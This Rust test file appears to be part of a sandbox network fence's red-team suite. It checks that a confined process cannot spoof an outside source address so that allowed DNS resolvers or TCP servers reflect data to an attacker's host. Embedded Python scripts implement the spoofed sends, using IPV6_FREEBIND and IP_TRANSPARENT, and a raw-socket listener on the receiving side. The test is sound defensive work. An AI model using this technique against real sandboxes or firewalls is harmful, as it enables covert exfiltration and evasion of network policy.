//! Red team round 5: a process writes a new flow to an allowed destination from an outside
//! address it controls, not the host's. The fence judged the destination alone, so the
//! packet left, and the allowed server answered the written source: a resolver its question
//! (the name, any bytes), a TCP service its SYN-ACK (the chosen source port, and with
//! CAP_NET_RAW the acknowledgment of a chosen sequence number). The attacker's host gets
//! them without ever being allowed. Over IPv6 any user can (`IPV6_FREEBIND`); over IPv4
//! root with CAP_NET_RAW (`IP_TRANSPARENT`, or a raw socket with `IP_HDRINCL`).

use std::time::Duration;

use crate::common::*;

/// Plain resolvers (no guard): any process may ask them, over both families; one allowed
/// host and port.
const POLICY: &str = r#"
version: 1
allow:
  - cidr: 2001:db8:1::10/128     # HOST_V6
    ports: [443]
  - cidr: 192.0.2.10/32          # HOST_V4
    ports: [443]
dns:
  resolvers: [192.0.2.53, 2001:db8:1::53]
"#;

/// The attacker's host on the world's side: waits SECONDS for what comes to SRC, an address
/// of the net namespace the sandbox does not own: UDP datagrams to port 40001 that carry
/// MARKER (the resolver's answer to the question written from SRC), and TCP segments to
/// port 40002 with SYN and ACK set (an allowed server's SYN-ACK to a SYN written from SRC).
/// Creates READY_FILE once bound; prints `udp N synack M`. Arguments: SRC SECONDS READY_FILE
/// MARKER.
const ATTACKERS_HOST: &str = r#"
import socket, struct, sys, time
src, seconds, ready, marker = sys.argv[1], float(sys.argv[2]), sys.argv[3], sys.argv[4].encode()
family = socket.AF_INET6 if ':' in src else socket.AF_INET
udp = socket.socket(family, socket.SOCK_DGRAM)
udp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
udp.bind((src, 40001))
udp.setblocking(False)
tcp = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_TCP)
tcp.setblocking(False)
open(ready, 'w').close()
end, answers, synacks = time.time() + seconds, 0, 0
while time.time() < end:
    try:
        if marker in udp.recv(65535):
            answers += 1
    except BlockingIOError:
        pass
    try:
        seg = tcp.recv(65535)
        if family == socket.AF_INET:
            seg = seg[(seg[0] & 15) * 4:]
        dport, flags = struct.unpack('!H', seg[2:4])[0], seg[13]
        if dport == 40002 and flags & 0x12 == 0x12:
            synacks += 1
    except BlockingIOError:
        time.sleep(0.02)
print('udp', answers, 'synack', synacks)
"#;

/// Writes from SRC, an address that is not this host's, a DNS question for MARKER.test to
/// RESOLVER port 53 (three times) and a TCP SYN to HOST port 443. IPv6: `IPV6_FREEBIND`,
/// which any user may set. IPv4: `IP_TRANSPARENT`, which takes CAP_NET_RAW (without it,
/// `IP_FREEBIND`, whose sends the kernel's route lookup refuses). Prints one line
/// per way: `dns sent`/`tcp sent` or the errno's name. Arguments: SRC RESOLVER HOST MARKER.
const WRITE_FROM_OUTSIDE: &str = r#"
import errno, socket, struct, sys
src, resolver, host, marker = sys.argv[1:5]
v6 = ':' in src
family = socket.AF_INET6 if v6 else socket.AF_INET
def free(s):
    if v6:
        s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
    else:
        try:
            s.setsockopt(socket.IPPROTO_IP, 19, 1)  # IP_TRANSPARENT
        except PermissionError:
            s.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND: binds, the route refuses
def name(e):
    return errno.errorcode.get(e.errno, str(e.errno))
question = struct.pack('!HHHHHH', 0x5151, 0x0100, 1, 0, 0, 0)
question += bytes([len(marker)]) + marker.encode() + b'\x04test\x00' + struct.pack('!HH', 1, 1)
try:
    s = socket.socket(family, socket.SOCK_DGRAM)
    free(s)
    s.bind((src, 40001))
    for _ in range(3):
        s.sendto(question, (resolver, 53))
    print('dns sent')
except OSError as e:
    print('dns', name(e))
try:
    s = socket.socket(family, socket.SOCK_STREAM)
    free(s)
    s.bind((src, 40002))
    s.settimeout(2)
    s.connect((host, 443))
    print('tcp connected')
except socket.timeout:
    print('tcp sent')
except OSError as e:
    print('tcp', name(e))
"#;

fn fenced_world() -> World {
    let w = World::new();
    w.apply_policy(POLICY);
    w
}

/// What left the sandbox carrying `marker` (frames on veth0), what the writer printed, and
/// what the attacker's host at `src` received, as `who` writes from `src`.
fn write_from_outside(
    w: &World,
    who: Adversary,
    src: std::net::IpAddr,
    resolver: std::net::IpAddr,
    host: std::net::IpAddr,
    marker: &str,
) -> (String, String, String) {
    let ethertype = if src.is_ipv6() { 0x86dd } else { 0x0800 };
    let ready = w.dir().join(format!("attacker-ready-{marker}"));
    let ready_arg = ready.to_str().expect("utf-8 path").to_string();
    let src_arg = src.to_string();
    let script = format!("{REFUSE_CAP_NET_ADMIN_PY}{WRITE_FROM_OUTSIDE}");
    let (resolver, host) = (resolver.to_string(), host.to_string());
    std::thread::scope(|scope| {
        let attacker = scope.spawn(|| {
            w.net_cmd(&[
                PYTHON,
                "-c",
                ATTACKERS_HOST,
                &src_arg,
                "5",
                &ready_arg,
                marker,
            ])
        });
        assert!(
            within(Duration::from_secs(5), || ready.exists()),
            "the attacker's host did not start"
        );
        let (frames, sent) = w.count_marked_frames(ethertype, marker, 3, || {
            w.adversary_cmd(
                who,
                &[PYTHON, "-c", &script, &src_arg, &resolver, &host, marker],
            )
        });
        assert!(frames.success(), "{frames}");
        assert!(sent.success(), "{sent}");
        let attacker = attacker.join().expect("the attacker's host thread");
        assert!(attacker.success(), "{attacker}");
        (
            frames.stdout.trim().to_string(),
            sent.stdout.trim().to_string(),
            attacker.stdout.trim().to_string(),
        )
    })
}

/// Nobody, over IPv6 with `IPV6_FREEBIND`, and root with CAP_NET_RAW, over IPv4 with
/// `IP_TRANSPARENT` (nobody's IPv4 sends fail in the kernel: ENETUNREACH), write a question to the allowed resolver and a SYN to the allowed host
/// from an outside address (the attacker's host). Nothing marked may reach the world's side
/// of the link, and the attacker's host gets neither the answer nor a SYN-ACK.
#[test]
fn no_allowed_destination_answers_a_source_written_from_outside() {
    let w = fenced_world();
    let _allowed = [w.listen_tcp(HOST_V6, 443), w.listen_tcp(HOST_V4, 443)];
    let mut escaped = Vec::new();
    let mut untried = Vec::new();
    for (who, src, resolver, host, marker) in [
        (Adversary::Nobody, OTHER_V6, DNS_V6, HOST_V6, "spoofsix"),
        (Adversary::Nobody, OTHER2_V4, DNS_V4, HOST_V4, "spoofnobody"),
        (
            Adversary::RootWithoutNetAdmin,
            OTHER2_V4,
            DNS_V4,
            HOST_V4,
            "spooffour",
        ),
    ] {
        let (frames, sent, received) = write_from_outside(&w, who, src, resolver, host, marker);
        eprintln!("{who:?} from {src}: frames {frames}; writer: {sent:?}; attacker: {received}");
        // The question must have been refused by the fence (EPERM), or for nobody over IPv4
        // by the kernel's route lookup: anything else (the socket option or the bind
        // failing) would leave this test testing nothing.
        let refused_by = sent.lines().next().unwrap_or_default();
        let kernel_refuses = who == Adversary::Nobody && src.is_ipv4();
        if refused_by != "dns EPERM" && !(kernel_refuses && refused_by == "dns ENETUNREACH") {
            untried.push(format!("{who:?} from {src}: {sent:?}"));
        }
        if frames != "0" || received != "udp 0 synack 0" {
            escaped.push(format!(
                "{who:?} from {src}: {frames} marked frames left; the attacker's host got \
                 {received} (writer: {sent:?})"
            ));
        }
    }
    assert!(
        escaped.is_empty(),
        "an allowed destination answered a source written from outside: {escaped:?}"
    );
    assert!(
        untried.is_empty(),
        "the writes were not refused by the fence: {untried:?}"
    );
}
